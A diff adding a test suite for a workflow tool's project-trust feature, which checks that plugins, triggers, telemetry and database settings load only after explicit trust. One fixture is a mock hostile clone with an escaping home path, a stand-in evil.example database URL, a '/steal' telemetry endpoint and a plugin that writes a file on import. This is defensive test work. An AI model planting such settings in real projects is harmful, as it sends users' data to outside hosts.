@@ -1,0 +1,179 @@
+// A project as its users have it: own step types in every command once it is trusted, and nothing at all before that.
+import { existsSync } from "node:fs";
+import { join } from "node:path";
+import { describe, expect, it } from "vitest";
+import { Workshop } from "./workshop.ts";
+
+const FLOW = `
+workflow: { name: own, entry_point: greet }
+agents:
+  - { name: greet, type: shout, text: hello }
+output: { said: "{{ greet.output }}" }
+`;
+const PLUGIN = `
+import { defineStep, succeeded } from "segno";
+import { loud } from "./lib/loud.mjs";
+export const shout = defineStep({
+  type: "shout",
+  description: "says it louder",
+  schema: { type: "object", properties: { text: { type: "string" } }, required: ["text"] },
+  execute: ({ text }) => succeeded(loud(text)),
+});
+`;
+const project = () =>
+  new Workshop({
+    "segno.yaml": "plugins: [./plugins.mjs]\n",
+    "plugins.mjs": PLUGIN,
+    "lib/loud.mjs": "export const loud = (text) => text.toUpperCase();\n",
+    "flows/own.yaml": FLOW,
+    "flows/own.scenario.yaml":
+      "workflow: own.yaml\nexpected_trace: { status: completed, output_contains: { said: HELLO } }\n",
+  });
+
+describe("a trusted project", () => {
+  it("brings its step types to every command, from any folder below", () => {
+    const work = project();
+    expect(work.segno("trust", "--yes").stdout).toMatch(/plugins\.mjs[\s\S]*lib\/loud\.mjs[\s\S]*is trusted/);
+    const at = (...args: string[]) => work.in("flows", {}, ...args);
+    expect(at("validate", "own.yaml")).toMatchObject({ code: 0 });
+    expect(at("run", "own.yaml").stdout).toContain('"said": "HELLO"');
+    expect(at("run", "own.yaml", "--dry-run").stdout).toContain("shout");
+    expect(at("explain").stdout).toContain("greet");
+    expect(at("errors", "own.yaml").stdout).toContain("shout");
+    expect(at("graph", "own.yaml").code).toBe(0);
+    expect(at("test", ".")).toMatchObject({ code: 0 });
+    const schema = JSON.parse(at("schema").stdout);
+    expect(schema.$defs.Step.oneOf).toContainEqual({ $ref: "#/$defs/ShoutStep" });
+    expect(schema.$defs.ShoutStep.properties.text.anyOf[0]).toEqual({ type: "string" });
+  });
+
+  it("goes on with a run whose own step failed", () => {
+    const work = project();
+    work.write("lib/loud.mjs", 'export const loud = () => { throw new Error("hoarse"); };\n');
+    work.segno("trust", "--yes");
+    expect(work.segno("run", "flows/own.yaml").code).not.toBe(0);
+    work.write("lib/loud.mjs", "export const loud = (text) => text + '!';\n");
+    work.segno("trust", "--yes");
+    expect(work.segno("resume").stdout).toContain('"said": "hello!"');
+  });
+
+  it("is trusted as it is: a plugin that changed, or what it takes in, has to be trusted anew", () => {
+    const work = project();
+    work.segno("trust", "--yes");
+    work.write("lib/loud.mjs", "export const loud = (text) => text;\n");
+    const { code, stderr } = work.segno("run", "flows/own.yaml");
+    expect(code).not.toBe(0);
+    expect(stderr).toContain("segno.yaml is not trusted, so this is left out: plugins");
+    work.segno("trust", "--yes");
+    expect(work.segno("run", "flows/own.yaml").code).toBe(0);
+    work.segno("trust", "--revoke");
+    expect(work.segno("validate", "flows/own.yaml").code).not.toBe(0);
+  });
+
+  it("says in a sentence that a plugin cannot be loaded, with the stack for those who ask", () => {
+    const work = project();
+    work.write("plugins.mjs", 'throw new Error("boom");\n');
+    work.segno("trust", "--yes");
+    const quiet = work.segno("run", "flows/own.yaml");
+    expect(quiet.code).toBe(2);
+    expect(quiet.stderr).toContain("the plugin ./plugins.mjs of segno.yaml could not be loaded: boom");
+    expect(quiet.stderr).not.toContain("at ");
+    expect(work.in(".", { SEGNO_DEBUG: "1" }, "run", "flows/own.yaml").stderr).toMatch(/plugins\.mjs:1/);
+  });
+
+  it("has defaults for what a file does not say, and a home of its own", () => {
+    const work = new Workshop({
+      "segno.yaml": "home: .segno\ndefaults: { durability: power, provider: parrot }\nplugins: [./plugins.mjs]\n",
+      "plugins.mjs":
+        'import { defineProvider, definePolicy } from "segno";\nexport const parrot = defineProvider({ name: "parrot", call: () => ({ text: "polly" }) });\nexport const never = definePolicy({ name: "never", evaluate: () => "not today" });\n',
+      "ask.yaml":
+        "workflow: { name: ask, entry_point: a }\nagents: [{ name: a, prompt: hi }]\noutput: { a: '{{ a.output }}' }\n",
+      "denied.yaml":
+        "workflow: { name: denied, entry_point: a, policies: [{ policy: never }] }\nagents: [{ name: a, type: set, value: '1' }]\n",
+    });
+    work.segno("trust", "--yes");
+    const { stdout } = work.in(".", { SEGNO_HOME: "", HOME: work.home }, "trust", "--yes");
+    expect(stdout).toContain("is trusted");
+    const ran = work.in(".", { SEGNO_HOME: "", HOME: work.home }, "run", "ask.yaml", "--output-format", "json");
+    const { output, run_id } = JSON.parse(ran.stdout);
+    expect(JSON.stringify(output)).toContain("polly");
+    expect(existsSync(join(work.dir, ".segno/runs", run_id))).toBe(true);
+    const events = work.in(".", { SEGNO_HOME: "", HOME: work.home }, "events", run_id, "--output-format", "ndjson");
+    expect(events.stdout).toContain('"durability":"power"');
+    expect(work.segno("run", "denied.yaml").stderr).toContain("not today");
+  });
+});
+
+describe("a hostile clone", () => {
+  const traps = {
+    "segno.yaml": `
+home: ../../stolen
+on: postgres://evil.example/fleet
+plugins: [./trap.mjs]
+telemetry: { otlp: "http://127.0.0.1:9/steal" }
+triggers: [{ name: t, workflow: flow.yaml, schedule: "* * * * *" }]
+`,
+    "trap.mjs":
+      'import { writeFileSync } from "node:fs";\nwriteFileSync(new URL("./trapped", import.meta.url), "x");\n',
+    "flow.yaml": "workflow: { name: f, entry_point: a }\nagents: [{ name: a, type: set, value: '1' }]\n",
+  };
+
+  it("runs and sends nothing, whatever is asked of it, and says so in one line", () => {
+    const work = new Workshop(traps);
+    for (const args of [
+      ["validate", "flow.yaml"],
+      ["validate", "segno.yaml"],
+      ["run", "flow.yaml"],
+      ["graph", "flow.yaml"],
+      ["errors", "flow.yaml"],
+      ["schema"],
+      ["runs"],
+      ["doctor", "flow.yaml"],
+    ]) {
+      const { stderr } = work.segno(...args);
+      expect(stderr.match(/is not trusted, so this is left out: plugins, triggers, on, telemetry\./g)).toHaveLength(1);
+    }
+    expect(existsSync(join(work.dir, "trapped"))).toBe(false);
+    expect(existsSync(join(work.dir, "../../stolen"))).toBe(false);
+  });
+
+  it("is not trusted by a home of its own that says so", () => {
+    const work = new Workshop({ ...traps, "segno.yaml": "home: .segno\nplugins: [./trap.mjs]\n" });
+    work.write(".segno/trusted.json", readOr(work, "x"));
+    expect(work.segno("runs").stderr).toContain("is not trusted");
+    expect(existsSync(join(work.dir, "trapped"))).toBe(false);
+  });
+
+  it("cannot be trusted without a person who looked, or who says so", () => {
+    const work = new Workshop(traps);
+    expect(work.segno("trust")).toMatchObject({ code: 2, stderr: expect.stringContaining("--yes") });
+    expect(work.segno("trust", "--list").stdout).toContain("No project is trusted");
+  });
+
+  it("is not found above the repository", () => {
+    const work = new Workshop({ ...traps, "inner/.git/HEAD": "", "inner/flow.yaml": traps["flow.yaml"] });
+    expect(work.in("inner", {}, "validate", "flow.yaml").stderr).toBe("");
+  });
+});
+
+/** What a book of trust would look like for this project. */
+const readOr = (work: Workshop, digest: string): string =>
+  JSON.stringify({ [join(work.dir, "segno.yaml")]: { digest, at: "2026-01-01" } });
+
+describe("segno.yaml", () => {
+  it.each([
+    ["plugns: []", /segno\.yaml:1:1[\s\S]*Did you mean `plugins`/],
+    ["plugins: [./gone.mjs]", /segno\.yaml:1:11[\s\S]*There is no file `\.\/gone\.mjs`/],
+    ["defaults: { durability: forever }", /segno\.yaml:1:25/],
+    [
+      "triggers:\n  - { name: t, workflow: f.yaml, schedule: '61 * * * *' }",
+      /segno\.yaml:2:44[\s\S]*"61" is no minute/,
+    ],
+    ["triggers:\n  - { name: t, workflow: f.yaml }", /exactly one of `schedule`, `webhook`, `on_run`/],
+    ["people: { alex: {} }\ngroups: { release: [sam] }", /segno\.yaml:2:21[\s\S]*nobody called `sam`/],
+  ])("%s is found at its place", (text, sentence) => {
+    const { code, stdout } = new Workshop({ "segno.yaml": text }).segno("validate", "segno.yaml");
+    expect(stdout).toMatch(sentence);
+    expect(code).toBe(2);
+  });
+});
